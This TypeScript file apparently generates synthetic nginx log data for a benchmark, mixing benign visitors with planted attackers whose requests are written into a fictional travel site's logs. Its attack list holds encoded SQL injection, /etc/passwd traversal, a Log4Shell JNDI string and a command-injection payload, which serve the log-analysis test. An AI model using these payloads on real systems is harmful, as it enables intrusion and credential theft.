import { seeded } from '../../deploy/sample/random.js';
import { addressOf } from './sshd.js';
import type { Planted } from './sshd.js';
import { DAY, DAY_START, TimedLines } from './write.js';

const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
const AGENTS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/133.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.2 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:135.0) Gecko/20100101 Firefox/135.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 18_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.3 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 (Linux; Android 15; Pixel 9) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/133.0.0.0 Mobile Safari/537.36',
];
const PLACES = ['kyoto', 'osaka', 'sapporo', 'naha', 'hakone', 'nara', 'kobe', 'nikko', 'takayama', 'kanazawa'];
const PATHS = [
  '/',
  '/tours/',
  '/hotels/',
  '/css/site.css',
  '/js/app.js',
  '/img/hero.jpg',
  '/search',
  '/about',
  '/faq',
  '/contact',
];

/** One request of an attacker: path and query, status. */
type Attack = (n: number) => readonly [target: string, status: number];

/** Each planted attacker does one of these, 40 requests long. */
const ATTACKS: readonly Attack[] = [
  (n) => [`/item?id=${n}%27%20UNION%20SELECT%20username,password%20FROM%20users--%20-`, 500],
  (n) => [`/download?file=..%2f..%2f..%2f..%2fetc%2fpasswd&n=${n}`, 403],
  (n) => [`/old/${n}/missing-${n * 7}.php`, 404],
  (n) => [`/?q=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.${n % 250}%2Fa%7D`, 400],
  (n) => [`/ping?host=127.0.0.1%3Bcat+%2Fetc%2Fpasswd&n=${n}`, 404],
];

/**
 * A day of nginx combined lines: `attackers` addresses that attack the site, each in one of five ways, among `benign`
 * visitors, some of whose requests end in 404 or carry an apostrophe.
 */
export function writeNginx(file: string, size: { lines: number; attackers: number; benign: number }): Planted {
  const random = seeded(`bench nginx ${size.lines}`);
  const slots = new TimedLines(size.lines);
  for (let actor = 0; actor < size.attackers; actor++) {
    const start = DAY_START + random.int(0, DAY - 400_000);
    for (let n = 0; n < 40; n++) slots.add(start + random.int(0, 280_000), actor);
  }
  for (
    let actor = size.attackers;
    slots.room > 0;
    actor = size.attackers + ((actor + 1 - size.attackers) % size.benign)
  ) {
    slots.add(DAY_START + random.int(0, DAY - 1), actor);
  }
  const count = new Uint32Array(size.attackers + size.benign);
  const bytes = slots.write(file, (time, actor) => {
    const n = (count[actor] = (count[actor] ?? 0) + 1);
    return actor < size.attackers ? attackLine(time, actor, n) : visitLine(time, actor, n);
  });
  const attackers = Array.from({ length: size.attackers }, (_, actor) => addressOf(actor));
  return { file, lines: size.lines, bytes, attackers };
}

/** The `n`th request of an attacker, each of whom attacks in one way. */
export function attackLine(time: number, actor: number, n: number): string {
  return line(time, actor, ...(ATTACKS[actor % ATTACKS.length] as Attack)(n));
}

/** The `n`th request of an ordinary visitor. */
export function visitLine(time: number, actor: number, n: number): string {
  return line(time, actor, ...visit(actor, n));
}

function visit(actor: number, n: number): readonly [target: string, status: number] {
  const at = actor * 31 + n * 17;
  const place = PLACES[at % PLACES.length] as string;
  if (at % 97 === 0) return [`/tours/${place}/old-page`, 404];
  if (at % 89 === 0) return [`/search?q=O%27Brien+${place}`, 200];
  const path = PATHS[at % PATHS.length] as string;
  return [path === '/search' ? `/search?q=${place}&page=${n % 9}` : path.endsWith('/') ? `${path}${place}` : path, 200];
}

function line(time: number, actor: number, target: string, status: number): string {
  const date = new Date(time);
  const stamp = `${String(date.getUTCDate()).padStart(2, '0')}/${MONTHS[date.getUTCMonth()]}/${date.getUTCFullYear()}:${date.toISOString().slice(11, 19)} +0000`;
  const agent = AGENTS[actor % AGENTS.length] as string;
  return `${addressOf(actor)} - - [${stamp}] "GET ${target} HTTP/1.1" ${status} ${1000 + ((actor * 7) % 40_000)} "https://www.example.com/" "${agent}"`;
}
